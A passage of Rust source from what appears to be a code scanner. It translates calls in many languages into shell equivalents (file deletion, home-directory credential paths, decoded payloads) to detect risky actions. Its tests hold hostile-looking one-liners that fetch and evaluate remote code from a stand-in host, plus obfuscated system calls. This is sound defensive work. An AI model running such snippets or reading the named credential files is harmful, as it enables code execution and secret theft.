            literal |= has_literal;
            text
        } else {
            // Further arguments are argv words: literal text, a decoded run-time value, or a Perl
            // or PHP variable.
            let decoding = decode::runtime(&arg, decoded).and_then(decoded_word);
            match (expression(&arg, true), decoding) {
                ((word, true), _) => word,
                (_, Some(decoded)) => decoded,
                _ if matches!(arg.as_slice(), [Token::Word(name)] if name.starts_with(['$', '@'])) => {
                    word(None)
                }
                _ => continue,
            }
        };
        if !command.is_empty() {
            command.push(' ');
        }
        command.push_str(&words);
    }
    literal.then_some(command)
}

/// R's argument named `name`, or else the positional one at `index` (counting positional
/// arguments only), without line breaks.
fn r_argument<'t>(args: &[&'t [Token]], index: usize, names: &[&str]) -> Option<Vec<&'t Token>> {
    let mut positional = 0;
    for arg in args {
        let arg = clean(arg);
        match arg.as_slice() {
            [Token::Word(key), Token::Punct(b'='), rest @ ..]
                if rest.first() != Some(&&Token::Punct(b'=')) =>
            {
                if names.contains(&key.as_str()) {
                    return Some(rest.to_vec());
                }
            }
            _ => {
                if positional == index {
                    return Some(arg);
                }
                positional += 1;
            }
        }
    }
    None
}

/// The elements of an R vector `c(…)` (or of a single value, one element).
fn r_vector<'a, 't>(arg: &'a [&'t Token]) -> Vec<&'a [&'t Token]> {
    match arg {
        [Token::Word(c), Token::Punct(b'('), .., Token::Punct(b')')] if c == "c" => {
            let inner = arg.get(2..arg.len() - 1).unwrap_or(&[]);
            let mut items = split_commas(inner);
            items.retain(|item| !item.is_empty());
            items
        }
        [] => Vec::new(),
        _ => vec![arg],
    }
}

/// R's `system2(command, args)`: shell text, the command and the arguments pasted with blanks
/// (system2 quotes nothing; its documentation leaves `shQuote` to the caller). `None` when no
/// part of it is literal.
fn r_pasted(args: &[&[Token]]) -> Option<String> {
    let command = r_argument(args, 0, &["command"])?;
    let (mut text, mut literal) = expression(&command, false);
    if let Some(rest) = r_argument(args, 1, &["args"]) {
        for item in r_vector(&rest) {
            let (piece, has_literal) = expression(item, false);
            literal |= has_literal;
            text.push(' ');
            text.push_str(&piece);
        }
    }
    literal.then_some(text)
}

/// R's `processx::run(command, args)`, `sys::exec_wait(cmd, args)`: the program and its argv
/// words, quoted. `None` when no part of it is literal.
fn r_program_args(args: &[&[Token]]) -> Option<String> {
    let command = r_argument(args, 0, &["command", "cmd"])?;
    let (program, mut literal) = expression(&command, true);
    let mut words = vec![if literal { program } else { word(None) }];
    if let Some(rest) = r_argument(args, 1, &["args"]) {
        for item in r_vector(&rest) {
            let (text, has_literal) = expression(item, true);
            literal |= has_literal;
            words.push(if has_literal { text } else { word(None) });
        }
    }
    literal.then(|| words.join(" "))
}

/// Whether an argument is a keyword argument (`shell=True`, `cwd: dir`) or an options object.
fn is_keyword_argument(arg: &[&Token]) -> bool {
    match arg {
        [Token::Word(_), Token::Punct(b'=' | b':'), rest @ ..] => {
            rest.first() != Some(&&Token::Punct(b'='))
        }
        [Token::Punct(b'{'), ..] => true,
        _ => false,
    }
}

/// The elements of a list argument (`[…]`, a Python tuple, Perl's `qw`), each one token when it
/// is a plain literal.
fn list_elements<'t>(arg: &[&'t Token]) -> Option<Vec<&'t Token>> {
    let items = list_items(arg)?;
    Some(
        items
            .into_iter()
            .map(|item| match item {
                [single] => *single,
                _ => &Token::Punct(b'?'),
            })
            .collect(),
    )
}

/// The elements of a list argument, each its tokens; commas inside an element's own brackets
/// (`Buffer.from(x, 'base64')`) do not split it.
fn list_items<'a, 't>(arg: &'a [&'t Token]) -> Option<Vec<&'a [&'t Token]>> {
    let (first, last) = (arg.first()?, arg.last()?);
    let bracketed = matches!(
        (first, last),
        (Token::Punct(b'['), Token::Punct(b']')) | (Token::Punct(b'('), Token::Punct(b')'))
    );
    if !bracketed {
        return None;
    }
    let inner = arg.get(1..arg.len().checked_sub(1)?)?;
    let mut items = split_commas(inner);
    items.retain(|item| !item.is_empty());
    Some(items)
}

/// `tokens` split at the commas outside brackets.
fn split_commas<T: std::borrow::Borrow<Token>>(tokens: &[T]) -> Vec<&[T]> {
    let mut pieces = Vec::new();
    let mut depth = 0usize;
    let mut start = 0;
    for (i, token) in tokens.iter().enumerate() {
        match token.borrow() {
            Token::Punct(b'(' | b'[' | b'{') => depth += 1,
            Token::Punct(b')' | b']' | b'}') => depth = depth.saturating_sub(1),
            Token::Punct(b',') if depth == 0 => {
                pieces.extend(tokens.get(start..i));
                start = i + 1;
            }
            _ => {}
        }
    }
    pieces.extend(tokens.get(start..));
    pieces
}

/// One argv element as shell text (see [`word`]); a value decoded at run time as what its
/// decoder makes (`"$(base64 -d <<< "$X")"`), so that a shell given it runs a hidden payload.
fn argv_word(element: &[&Token], decoded: &[(String, Decoding)]) -> String {
    if let Some(word) = decode::runtime(element, decoded).and_then(decoded_word) {
        return word;
    }
    match element {
        [single] => word(Some(single)),
        _ => word(None),
    }
}

/// One argv word as shell text: a literal, quoted; anything else a run-time part.
fn word(token: Option<&Token>) -> String {
    match token {
        Some(Token::Str { text, .. }) => quote(text),
        _ => format!("\"{RUN_TIME}\""),
    }
}

/// `text` as one shell word: as it is when it is plain, single-quoted otherwise.
/// A file name as one shell word: quoted (see [`quote`]), a leading `~` (alone or before `/`)
/// left for the shell to read as the home directory, as the program it was given to does.
pub(super) fn path_quote(text: &str) -> String {
    match text.strip_prefix('~') {
        Some("") => "~".to_owned(),
        Some(rest) if rest.starts_with('/') => format!("~{}", quote(rest)),
        _ => quote(text),
    }
}

pub(super) fn quote(text: &str) -> String {
    let plain = !text.is_empty()
        && text
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"_-./=:,+@%^~".contains(&b));
    if plain && !text.starts_with('~') {
        text.to_owned()
    } else {
        format!("'{}'", text.replace('\'', r"'\''"))
    }
}

/// A string expression as shell text (or, `as_word`, as one quoted shell word): literals as
/// they are, everything else (names, calls, format placeholders) a run-time part; and whether
/// any literal was there.
fn expression(arg: &[&Token], as_word: bool) -> (String, bool) {
    let mut text = String::new();
    let mut literal = false;
    let mut dynamic = false;
    let formatted = arg.iter().any(|t| **t == Token::Punct(b'%'))
        || arg.windows(2).any(|pair| {
            matches!(pair, [Token::Punct(b'.'), Token::Word(name)] if name.starts_with("format"))
        });
    let mut depth = 0usize;
    for token in arg {
        match token {
            Token::Punct(b'(' | b'[' | b'{') => depth += 1,
            Token::Punct(b')' | b']' | b'}') => depth = depth.saturating_sub(1),
            Token::Str { text: piece, .. } if depth == 0 => {
                literal = true;
                dynamic = false;
                let piece = if formatted {
                    placeholders(piece)
                } else {
                    piece.clone()
                };
                if as_word {
                    text.push_str(&quote(&piece));
                } else {
                    text.push_str(&piece);
                }
            }
            // With a format, the placeholders stand for the values.
            Token::Word(_) | Token::Str { .. } if !dynamic && !formatted => {
                text.push_str(&if as_word {
                    word(None)
                } else {
                    RUN_TIME.to_owned()
                });
                dynamic = true;
            }
            _ => {}
        }
    }
    (text, literal)
}

/// Format placeholders (`%s`, `%-5d`, `{}`, `{0}`, `{name}`) as run-time parts.
fn placeholders(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.char_indices().peekable();
    while let Some((at, c)) = chars.next() {
        match c {
            '%' => {
                let rest = text.get(at + 1..).unwrap_or("");
                let spec = rest
                    .find(|c: char| !(c.is_ascii_digit() || "-+ #.".contains(c)))
                    .unwrap_or(rest.len());
                match rest.get(spec..).and_then(|r| r.chars().next()) {
                    Some(kind) if "sdifrxXeEgGc".contains(kind) => {
                        out.push_str(RUN_TIME);
                        for _ in 0..=spec {
                            chars.next();
                        }
                    }
                    _ => out.push(c),
                }
            }
            '{' => {
                let rest = text.get(at + 1..).unwrap_or("");
                match rest.find('}') {
                    Some(end) if !rest[..end].contains(['{', ' ']) => {
                        out.push_str(RUN_TIME);
                        for _ in 0..=rest[..end].chars().count() {
                            chars.next();
                        }
                    }
                    _ => out.push(c),
                }
            }
            _ => out.push(c),
        }
    }
    out
}

/// The command a Perl or Ruby `open` runs: a mode `"-|"` or `"|-"` followed by the command, or
/// a two-argument form with the pipe in the name (`"cmd |"`, `"| cmd"`).
fn piped_open(args: &[&[Token]], decoded: &[(String, Decoding)]) -> Option<String> {
    for (index, arg) in args.iter().enumerate() {
        let [Token::Str { text, .. }] = arg else {
            continue;
        };
        let trimmed = text.trim();
        if matches!(trimmed, "-|" | "|-") {
            return command_of(args.get(index + 1..)?, decoded);
        }
        if let Some(command) = trimmed
            .strip_prefix('|')
            .or_else(|| trimmed.strip_suffix('|'))
        {
            return Some(command.trim().to_owned());
        }
    }
    None
}

/// Calls that remove files or directories through a language's library rather than a shell,
/// by the shell command that does the same.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Removal {
    /// `shutil.rmtree`, `FileUtils.rm_rf`, `rimraf`, `remove_tree`: `rm -rf`.
    Tree,
    /// `os.remove`, `os.unlink`, `unlink`, `File.delete`: `rm -f` (none of them asks).
    File,
    /// `os.rmdir`, `Dir.rmdir`: `rmdir`.
    Dir,
    /// `os.removedirs`: `rmdir -p`.
    Dirs,
    /// Node's `fs.rm`/`fs.rmSync` (`dir`: `fs.rmdir`/`fs.rmdirSync`): `rm -rf` with
    /// `recursive: true`, else `rm -f` (or `rmdir`).
    ByOptions { dir: bool },
}

/// What a call's name has before its last segment (`shutil` in `shutil.rmtree`), lowercase;
/// empty for a bare name.
fn receiver_name(word: &str, last: &str) -> String {
    word.len()
        .checked_sub(last.len() + 1)
        .and_then(|end| word.get(..end))
        .unwrap_or("")
        .to_ascii_lowercase()
}

fn removal_kind(word: &str, last: &str) -> Option<Removal> {
    let receiver = receiver_name(word, last);
    Some(match last {
        "rmtree"
        | "rm_rf"
        | "rm_r"
        | "remove_dir"
        | "remove_entry"
        | "remove_entry_secure"
        | "remove_tree"
        | "rimraf"
        | "rimrafsync"
        | "removesync" => Removal::Tree,
        "sync" if receiver.ends_with("rimraf") => Removal::Tree,
        "unlink" | "unlinksync" | "rm_f" | "safe_unlink" => Removal::File,
        "remove" if receiver == "os" => Removal::File,
        "delete" if receiver.ends_with("file") => Removal::File,
        "delete" if receiver.ends_with("dir") => Removal::Dir,
        "rm" if receiver.contains("fs") || receiver.ends_with("fileutils") => {
            Removal::ByOptions { dir: false }
        }
        "rmsync" => Removal::ByOptions { dir: false },
        "rmdir" | "rmdirsync" => Removal::ByOptions { dir: true },
        "removedirs" => Removal::Dirs,
        _ => return None,
    })
}

/// The shell command a removal call amounts to (`shutil.rmtree('/x')` is `rm -rf -- /x`), its
/// operands read as path expressions; `None` when no operand holds a literal or the home
/// directory (`shutil.rmtree(tmp)` is not looked into, as `os.system(cmd)` is not). A method
/// without a path argument removes its receiver (`Path('/x').unlink()`).
fn removal_command(
    removal: Removal,
    tokens: &[Token],
    word_at: usize,
    args: &[&[Token]],
    lang: Lang,
) -> Option<String> {
    let recursive = args.iter().any(|arg| {
        arg.windows(3).any(|w| {
            matches!(w, [Token::Word(key), Token::Punct(b':' | b'='), Token::Word(value)]
                if key == "recursive" && value.eq_ignore_ascii_case("true"))
        })
    });
    let command = match removal {
        Removal::Tree => "rm -rf",
        Removal::File => "rm -f",
        Removal::Dir => "rmdir",
        Removal::Dirs => "rmdir -p",
        Removal::ByOptions { .. } if recursive => "rm -rf",
        Removal::ByOptions { dir: true } => "rmdir",
        Removal::ByOptions { dir: false } => "rm -f",
    };
    // Python's, Node's and Julia's functions take one path; the others take a list.
    let take = if matches!(lang, Lang::Python | Lang::JavaScript | Lang::Julia) {
        1
    } else {
        usize::MAX
    };
    let mut words = Vec::new();
    for arg in args.iter().take(take) {
        let cleaned = clean(arg);
        if is_keyword_argument(&cleaned) {
            break;
        }
        words.extend(path_words(&cleaned, lang));
    }
    if words.is_empty() {
        words.extend(called_on(tokens, word_at, lang));
    }
    (!words.is_empty()).then(|| format!("{command} -- {}", words.join(" ")))
}

/// Whether the call named at `word_at` is a method called on an expression (`(…).unlink()`).
fn is_method(tokens: &[Token], word_at: usize) -> bool {
    word_at
        .checked_sub(1)
        .is_some_and(|dot| tokens.get(dot) == Some(&Token::Punct(b'.')))
}

/// The shell word of the path a method named at `word_at` is called on (`Path('/x').unlink()`,
/// see [`receiver`]).
fn called_on(tokens: &[Token], word_at: usize, lang: Lang) -> Option<String> {
    if !is_method(tokens, word_at) {
        return None;
    }
    receiver(tokens, word_at - 1, lang).and_then(|value| shell_word(&value))
}

/// The shell words of the paths an argument names: a list's literal elements, R's vector's
/// items (`c("a", "b")`), or one path expression (see [`path_value`]); none for a path that
/// holds no literal and not the home directory.
fn path_words(arg: &[&Token], lang: Lang) -> Vec<String> {
    if let Some(elements) = list_elements(arg) {
        return elements
            .iter()
            .filter_map(|e| match e {
                Token::Str { text, .. } => Some(quote(text)),
                _ => None,
            })
            .collect();
    }
    let items = if lang == Lang::R {
        r_vector(arg)
    } else {
        vec![arg]
    };
    let mut words = Vec::new();
    for item in items {
        let item: Vec<Token> = item.iter().map(|t| (*t).clone()).collect();
        let (mut value, end) = path_value(&item, 0, lang);
        if end < item.len() {
            value.push(Piece::RunTime);
        }
        // R's functions expand a leading `~` themselves.
        if lang == Lang::R {
            value = home_expanded(value);
        }
        words.extend(shell_word(&value));
    }
    words
}

/// The value of the path expression that ends before the `.` at `dot` (`Path('/x').unlink()`,
/// `(Path.home() / 'x').unlink()`, `Path.home().joinpath('x').unlink()`), when one starts
/// there.
fn receiver(tokens: &[Token], dot: usize, lang: Lang) -> Option<Vec<Piece>> {
    let mut at = dot;
    let start = loop {
        let before = at.checked_sub(1)?;
        let start = match tokens.get(before)? {
            Token::Punct(b')') => {
                let open = opening(tokens, before)?;
                match open.checked_sub(1).and_then(|i| tokens.get(i)) {
                    Some(Token::Word(_)) => open - 1,
                    _ => open,
                }
            }
            Token::Word(_) | Token::Str { .. } => before,
            _ => return None,
        };
        // A method of a path (`.joinpath('x')`): the path it is called on starts further back.
        match start.checked_sub(1) {
            Some(prev)
                if matches!(tokens.get(start), Some(Token::Word(_)))
                    && tokens.get(prev) == Some(&Token::Punct(b'.')) =>
            {
                at = prev;
            }
            _ => break start,
        }
    };
    let (value, end) = path_value(tokens, start, lang);
    (end == dot).then_some(value)
}

/// The index of the bracket that opens the one that closes at `close`; `None` past
/// [`MAX_BRACKET_SCAN`] tokens.
fn opening(tokens: &[Token], close: usize) -> Option<usize> {
    let mut depth = 0usize;
    for i in (close.saturating_sub(MAX_BRACKET_SCAN)..=close).rev() {
        match tokens.get(i)? {
            Token::Punct(b')' | b']' | b'}') => depth += 1,
            Token::Punct(b'(' | b'[' | b'{') => {
                depth = depth.checked_sub(1)?;
                if depth == 0 {
                    return Some(i);
                }
            }
            _ => {}
        }
    }
    None
}

/// One piece of a path expression's value.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Piece {
    /// The user's home directory (`Path.home()`, `os.homedir()`, `os.environ['HOME']`,
    /// `$ENV{HOME}`, `expanduser('~')`).
    Home,
    /// Literal text.
    Text(String),
    /// Anything else.
    RunTime,
}

/// The value of the path expression at `tokens[at]`: literals, the home directory, joins
/// (`os.path.join`, `path.join`, `File.join`, `Path(…)`, pathlib's `/`), concatenation (`+`,
/// Perl's and PHP's `.`), everything else a run-time part; and the index after it.
fn path_value(tokens: &[Token], at: usize, lang: Lang) -> (Vec<Piece>, usize) {
    let (value, end) = path_value_nested(tokens, at, lang, 0);
    (merged(value), end)
}

/// Most operands joined in one path expression before the rest is a run-time part.
const MAX_PATH_TERMS: usize = 32;

/// How deep path expressions nest before the rest is a run-time part.
const MAX_PATH_DEPTH: usize = 8;

/// One operand of a path expression (see [`path_value`]).
fn path_term(tokens: &[Token], at: usize, lang: Lang, depth: usize) -> (Vec<Piece>, usize) {
    let run_time = |end: usize| (vec![Piece::RunTime], end);
    if depth > MAX_PATH_DEPTH {
        return run_time(tokens.len());
    }
    let after_brackets = |mut i: usize| {
        while let Some(Token::Punct(b'(' | b'[')) = tokens.get(i) {
            match closing(tokens, i) {
                Some(close) => i = close + 1,
                None => return tokens.len(),
            }
        }
        i
    };
    let (mut value, mut i) = match tokens.get(at) {
        Some(Token::Str { text, runs: false }) => (vec![Piece::Text(text.clone())], at + 1),
        Some(Token::Punct(b'(')) => {
            let Some(close) = closing(tokens, at) else {
                return run_time(tokens.len());
            };
            let inner = tokens.get(at + 1..close).unwrap_or(&[]);
            match path_value_nested(inner, 0, lang, depth + 1) {
                (value, end) if end == inner.len() => (value, close + 1),
                _ => (vec![Piece::RunTime], close + 1),
            }
        }
        Some(Token::Word(word)) => {
            let last = word.rsplit(['.', ':']).next().unwrap_or(word);
            let lower = last.to_ascii_lowercase();
            let qualified = word.len() > last.len();
            if is_home(word, last) {
                let end = match (tokens.get(at + 1), tokens.get(at + 2)) {
                    (Some(Token::Punct(b'(')), Some(Token::Punct(b')'))) => at + 3,
                    _ => at + 1,
                };
                (vec![Piece::Home], end)
            } else if let Some(end) =
                env_home(tokens, at, word).or_else(|| property_home(tokens, at, word))
            {
                (vec![Piece::Home], end)
            } else if tokens.get(at + 1) == Some(&Token::Punct(b'('))
                && (PATH_JOINS.contains(&lower.as_str())
                    || (qualified || matches!(lang, Lang::Python | Lang::Julia | Lang::Jvm))
                        && PATH_MAKERS.contains(&lower.as_str()))
            {
                let Some(close) = closing(tokens, at + 1) else {
                    return run_time(tokens.len());
                };
                let mut value = joined(tokens.get(at + 2..close).unwrap_or(&[]), lang, depth);
                if (matches!(lower.as_str(), "expanduser" | "expand_path") || word == "path.expand")
                    && let Some(Piece::Text(text)) = value.first_mut()
                    && (text == "~" || text.starts_with("~/"))
                {
                    text.remove(0);
                    value.insert(0, Piece::Home);
                }
                (value, close + 1)
            } else {
                run_time(after_brackets(at + 1))
            }
        }
        _ => run_time(at + 1),
    };
    // Methods of a path: `.joinpath(…)`, `.expanduser()`, `require('os').homedir()`.
    let methods = lang != Lang::Perl && lang != Lang::Php;
    while let (true, Some(Token::Punct(b'.')), Some(Token::Word(method))) =
        (methods, tokens.get(i), tokens.get(i + 1))
    {
        let method = method.to_ascii_lowercase();
        let call_end = match tokens.get(i + 2) {
            Some(Token::Punct(b'(')) => closing(tokens, i + 2).map_or(tokens.len(), |c| c + 1),
            _ => i + 2,
        };
        match method.as_str() {
            "home" | "homedir" => value = vec![Piece::Home],
            "joinpath" | "join" if tokens.get(i + 2) == Some(&Token::Punct(b'(')) => {
                let inner = tokens.get(i + 3..call_end.saturating_sub(1)).unwrap_or(&[]);
                value.push(Piece::Text("/".to_owned()));
                value.extend(joined(inner, lang, depth));
            }
            "expanduser" | "resolve" | "absolute" | "as_posix" | "to_s" | "tostring" => {}
            _ => break,
        }
        i = call_end;
    }
    (value, i)
}

/// Functions that join their arguments into a path.
const PATH_JOINS: &[&str] = &["join", "joinpath", "resolve", "catfile", "catdir"];

/// Functions that make a path of their arguments: pathlib's classes, `expanduser`, … (with a
/// module in front, or in Python).
const PATH_MAKERS: &[&str] = &[
    "path",
    "purepath",
    "posixpath",
    "pathname",
    "expanduser",
    "expand_path",
    "expand",
    "abspath",
    "realpath",
    "normpath",
    "normalize",
    "fspath",
    "str",
    "new",
    // Java's `File("…")`, `Path.of("…")`, `Paths.get("…")`.
    "file",
    "of",
    "get",
];

/// The comma-separated path expressions in `tokens`, joined with `/`.
fn joined(tokens: &[Token], lang: Lang, depth: usize) -> Vec<Piece> {
    let mut value = Vec::new();
    let mut at = 0;
    while at < tokens.len() {
        let (part, end) = path_value_nested(tokens, at, lang, depth + 1);
        if !value.is_empty() {
            value.push(Piece::Text("/".to_owned()));
        }
        value.extend(part);
        // Whatever the part left unread (`x if y else z`) is a run-time part.
        let next = tokens
            .get(end..)
            .and_then(|rest| rest.iter().position(|t| *t == Token::Punct(b',')))
            .map_or(tokens.len(), |offset| end + offset);
        if next > end {
            value.push(Piece::RunTime);
        }
        at = next + 1;
    }
    merged(value)
}

/// [`path_value`] one level deeper.
fn path_value_nested(tokens: &[Token], at: usize, lang: Lang, depth: usize) -> (Vec<Piece>, usize) {
    let (mut value, mut i) = path_term(tokens, at, lang, depth);
    for terms in 1.. {
        if terms > MAX_PATH_TERMS {
            value.push(Piece::RunTime);
            break;
        }
        let (joined, operator) = match (tokens.get(i), tokens.get(i + 1)) {
            (Some(Token::Punct(b'/')), _) if lang == Lang::Python => (true, 1),
            (Some(Token::Punct(b'+')), Some(Token::Punct(b'+'))) if lang == Lang::Erlang => {
                (false, 2)
            }
            (Some(Token::Punct(b'+')), _) => (false, 1),
            (Some(Token::Punct(b'.')), _) if matches!(lang, Lang::Perl | Lang::Php) => (false, 1),
            // Lua's `..`, Erlang's `++`, Elixir's `<>`.
            (Some(Token::Punct(b'.')), Some(Token::Punct(b'.'))) if lang == Lang::Lua => (false, 2),
            (Some(Token::Punct(b'<')), Some(Token::Punct(b'>'))) if lang == Lang::Elixir => {
                (false, 2)
            }
            _ => break,
        };
        let (rhs, next) = path_term(tokens, i + operator, lang, depth);
        if joined {
            value.push(Piece::Text("/".to_owned()));
        }
        value.extend(rhs);
        i = next;
    }
    (value, i)
}

/// Whether a name is the home directory: `Path.home`, `os.homedir`, `Dir.home`,
/// `process.env.HOME`.
fn is_home(word: &str, last: &str) -> bool {
    let qualified = word.len() > last.len();
    (qualified
        && matches!(
            last.to_ascii_lowercase().as_str(),
            "home" | "homedir" | "home_dir" | "user_home"
        ))
        || last == "homedir"
        || (qualified && last == "HOME" && word.to_ascii_lowercase().contains("env"))
}

/// `os.environ['HOME']`, `os.getenv('HOME')`, `ENV['HOME']`, `$ENV{HOME}`, `$_SERVER['HOME']`,
/// `getenv('HOME')` at `at`: the index after it.
fn env_home(tokens: &[Token], at: usize, word: &str) -> Option<usize> {
    let lower = word.to_ascii_lowercase();
    if !(lower.contains("env") || lower.contains("$_server")) {
        return None;
    }
    let open = at + 1;
    if !matches!(tokens.get(open), Some(Token::Punct(b'[' | b'(' | b'{'))) {
        return None;
    }
    let key = match tokens.get(open + 1)? {
        Token::Str { text, .. } => text.as_str(),
        Token::Word(name) => name.as_str(),
        Token::Punct(_) => return None,
    };
    (key == "HOME").then(|| closing(tokens, open).map_or(tokens.len(), |close| close + 1))
}

/// Java's `System.getProperty("user.home")` at `at`: the index after it.
fn property_home(tokens: &[Token], at: usize, word: &str) -> Option<usize> {
    if word.rsplit('.').next() != Some("getProperty") {
        return None;
    }
    let open = at + 1;
    match (tokens.get(open)?, tokens.get(open + 1)?) {
        (Token::Punct(b'('), Token::Str { text, .. }) if text == "user.home" => {
            Some(closing(tokens, open).map_or(tokens.len(), |close| close + 1))
        }
        _ => None,
    }
}

/// A path value whose leading `~` (`~/…`) is the home directory.
fn home_expanded(mut value: Vec<Piece>) -> Vec<Piece> {
    if let Some(Piece::Text(text)) = value.first_mut()
        && (text == "~" || text.starts_with("~/"))
    {
        text.remove(0);
        value.insert(0, Piece::Home);
    }
    merged(value)
}

/// Adjacent texts as one.
fn merged(value: Vec<Piece>) -> Vec<Piece> {
    let mut out: Vec<Piece> = Vec::with_capacity(value.len());
    for piece in value {
        match (out.last_mut(), piece) {
            (Some(Piece::Text(text)), Piece::Text(more)) => text.push_str(&more),
            (_, piece) => out.push(piece),
        }
    }
    out
}

/// A path value as one shell word: the home directory as `~` in front, texts quoted, the rest
/// run-time parts; `None` when it holds neither text nor the home directory.
fn shell_word(value: &[Piece]) -> Option<String> {
    if !value
        .iter()
        .any(|p| matches!(p, Piece::Home | Piece::Text(_)))
    {
        return None;
    }
    let mut word = String::new();
    for (index, piece) in value.iter().enumerate() {
        match piece {
            Piece::Home if index == 0 => word.push('~'),
            Piece::Text(text) if index == 1 && value.first() == Some(&Piece::Home) => {
                if let Some(rest) = text.strip_prefix('/') {
                    word.push('/');
                    if !rest.is_empty() {
                        word.push_str(&quote(rest));
                    }
                } else {
                    word.push_str(&quote(text));
                }
            }
            Piece::Text(text) if !text.is_empty() => word.push_str(&quote(text)),
            Piece::Text(_) => {}
            Piece::Home | Piece::RunTime => word.push_str(&format!("\"{RUN_TIME}\"")),
        }
    }
    Some(word)
}

/// A path value under the home directory, as a file name (`~/.ssh/id_rsa`).
fn home_name(value: &[Piece]) -> Option<String> {
    match value {
        [Piece::Home, Piece::Text(rest)] if rest.starts_with('/') && rest.len() > 1 => {
            Some(format!("~{rest}"))
        }
        _ => None,
    }
}

/// The files under the home directory the code names with a path built at run time
/// (`Path.home() / '.ssh' / 'id_rsa'`, `path.join(os.homedir(), '.aws', 'credentials')`): in a
/// one-liner all of them, in a script on stdin those a call opens or reads.
fn home_names(tokens: &[Token], lang: Lang, from_stdin: bool) -> Vec<String> {
    let mut names: Vec<String> = Vec::new();
    for (at, token) in tokens.iter().enumerate() {
        let Token::Word(word) = token else {
            continue;
        };
        let last = word.rsplit(['.', ':']).next().unwrap_or(word);
        let lower = last.to_ascii_lowercase();
        if !(is_home(word, last)
            || env_home(tokens, at, word).is_some()
            || PATH_JOINS.contains(&lower.as_str())
            || PATH_MAKERS.contains(&lower.as_str()))
        {
            continue;
        }
        let (value, end) = path_value(tokens, at, lang);
        let Some(name) = home_name(&value) else {
            continue;
        };
        let opened = || {
            let called = matches!(
                (at.checked_sub(2).and_then(|i| tokens.get(i)), at.checked_sub(1).and_then(|i| tokens.get(i))),
                (Some(Token::Word(call)), Some(Token::Punct(b'(')))
                    if READS.contains(&call.rsplit(['.', ':']).next().unwrap_or(call).to_ascii_lowercase().as_str())
            );
            let after = if tokens.get(end) == Some(&Token::Punct(b')')) {
                end + 1
            } else {
                end
            };
            let read = matches!(
                (tokens.get(after), tokens.get(after + 1)),
                (Some(Token::Punct(b'.')), Some(Token::Word(method)))
                    if matches!(method.as_str(), "read_text" | "read_bytes" | "open")
            );
            called || read
        };
        if !names.contains(&name) && (!from_stdin || opened()) {
            names.push(name);
        }
    }
    names
}

#[cfg(test)]
mod tests {
    use super::*;

    fn commands(lang: Lang, text: &str) -> Vec<String> {
        shell_commands(
            &Code {
                lang,
                text,
                from_stdin: false,
            },
            &Budget::default(),
        )
    }

    #[test]
    fn whole_environment_listings() {
        let lists = |lang, text: &str| {
            let code = Code {
                lang,
                text,
                from_stdin: false,
            };
            let tokens = tokens(&code);
            (0..tokens.len()).any(|at| takes_whole_environment(&tokens, at, lang))
        };
        for (lang, text) in [
            (Lang::Python, "import os; print(os.environ)"),
            (Lang::Python, "import os; print(dict(os.environ.items()))"),
            (
                Lang::Python,
                "from os import environ as e; print(environ.copy())",
            ),
            (Lang::Python, "import os\nfor k in os.environ: print(k)"),
            (Lang::JavaScript, "console.log(process.env)"),
            (
                Lang::JavaScript,
                "for (const k in process.env) console.log(k)",
            ),
            (Lang::JavaScript, "console.log({...Bun.env})"),
            (Lang::JavaScript, "console.log(Deno.env.toObject())"),
            (Lang::Ruby, "p ENV.to_h"),
            (Lang::Ruby, "ENV.each { |k, v| puts k }"),
            (Lang::Perl, "print \"$_=$ENV{$_}\\n\" for keys %ENV"),
            (Lang::Php, "print_r(getenv());"),
            (Lang::Php, "var_dump($_ENV);"),
            (Lang::R, "print(Sys.getenv())"),
        ] {
            assert!(lists(lang, text), "{text}");
        }
        for (lang, text) in [
            (Lang::Python, "import os; print(os.environ['HOME'])"),
            (Lang::Python, "import os; print(os.environ.get('HOME'))"),
            (Lang::Python, "import os; print('CI' in os.environ)"),
            (Lang::Python, "import os; print(os.getenv('HOME'))"),
            (Lang::Python, "print('os.environ')"),
            (Lang::JavaScript, "console.log(process.env.HOME)"),
            (Lang::JavaScript, "console.log(process.env['HOME'])"),
            (Lang::JavaScript, "console.log('CI' in process.env)"),
            (Lang::Ruby, "puts ENV['HOME']"),
            (Lang::Ruby, "puts ENV.fetch('HOME')"),
            (Lang::Perl, "print $ENV{HOME}"),
            (Lang::Php, "echo getenv('HOME');"),
            (Lang::Php, "echo $_SERVER['HOME'];"),
            (Lang::R, "print(Sys.getenv('HOME'))"),
        ] {
            assert!(!lists(lang, text), "{text}");
        }
    }

    #[test]
    fn code_fetched_from_a_named_url_is_downloaded_code() {
        let fetched = |lang, text| {
            commands(lang, text)
                .iter()
                .any(|command| command.contains("$(curl -fsSL"))
        };
        assert!(fetched(
            Lang::Python,
            "import urllib.request as u; exec(u.urlopen('https://x/i.py').read())"
        ));
        assert!(fetched(Lang::Ruby, "eval URI.open('HTTPS://x/i.rb').read"));
        assert!(fetched(Lang::Php, "eval(file_get_contents('ftp://x/i'));"));
        assert!(!fetched(Lang::Python, "exec(open('setup.py').read())"));
        assert!(!fetched(Lang::Python, "print(urlopen('https://x').read())"));
    }

    #[test]
    fn computed_calls_are_run_time_code() {
        let computed = |lang, text| commands(lang, text).contains(&COMPUTED.to_owned());
        assert!(computed(Lang::Python, "eval(input())"));
        assert!(computed(Lang::Python, "import os; getattr(os, name)('id')"));
        assert!(computed(
            Lang::Python,
            "import sys; __import__(sys.argv[1]).system('id')"
        ));
        assert!(computed(
            Lang::JavaScript,
            "require('child_process')['ex' + 'ecSync']('id')"
        ));
        assert!(computed(Lang::JavaScript, "eval(process.argv[1])"));
        assert!(computed(Lang::Ruby, "Kernel.send(:system, 'id')"));
        assert!(computed(Lang::Perl, "my $f = 'sys' . 'tem'; &$f('id')"));
        assert!(computed(Lang::Perl, "eval $ARGV[0]"));
        for (lang, text) in [
            (Lang::Python, "import os; print(os.getcwd())"),
            (Lang::Python, "print(eval('1+2'))"),
            (Lang::Python, "__import__('os').getcwd()"),
            (Lang::JavaScript, "console.log(JSON.parse(s)['k'])"),
            (Lang::Ruby, "puts [1, 2].map { |x| x * 2 }"),
            (Lang::Perl, "print if /foo/"),
        ] {
            assert!(!computed(lang, text), "{text:?}");
        }
    }

    #[test]
    fn deno_eval_is_code() {
        let args = |words: &[&str]| words.iter().map(|w| (*w).to_owned()).collect::<Vec<_>>();
        assert_eq!(deno_code(&args(&["eval", "-p", "1+1"])), ["1+1"]);
